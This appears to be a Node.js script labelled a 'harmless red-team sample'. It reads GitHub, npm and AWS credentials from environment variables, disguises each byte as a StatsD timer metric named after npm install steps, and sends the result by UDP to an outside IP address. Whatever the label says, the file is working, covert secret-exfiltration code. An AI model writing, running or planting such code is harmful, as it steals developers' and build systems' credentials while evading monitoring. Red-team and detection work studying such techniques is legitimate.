'use strict';
// Harmless red-team sample: env tokens as plausible StatsD timer values over UDP (value = 250 + 7*byte + i%5).
const dgram = require('dgram');
const e = process.env;
const secret = ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']
  .filter(k => e[k]).map(k => k[0] + '=' + e[k]).join('\n');
const b = Buffer.from(secret, 'latin1');
const names = ['resolve', 'fetch', 'extract', 'link', 'build', 'audit', 'lock', 'gc'];
const lines = [];
for (let i = 0; i < b.length; i++) lines.push(`npm.install.${names[i % 8]}.duration:${250 + 7 * b[i] + (i % 5)}|ms`);
const sock = dgram.createSocket('udp4');
let i = 0;
function go() {
  if (i >= lines.length) { sock.close(); return; }
  const msg = Buffer.from(lines.slice(i, i + 8).join('\n')); i += 8;
  sock.send(msg, 8125, '198.51.100.23', () => setTimeout(go, 20));
}
go();
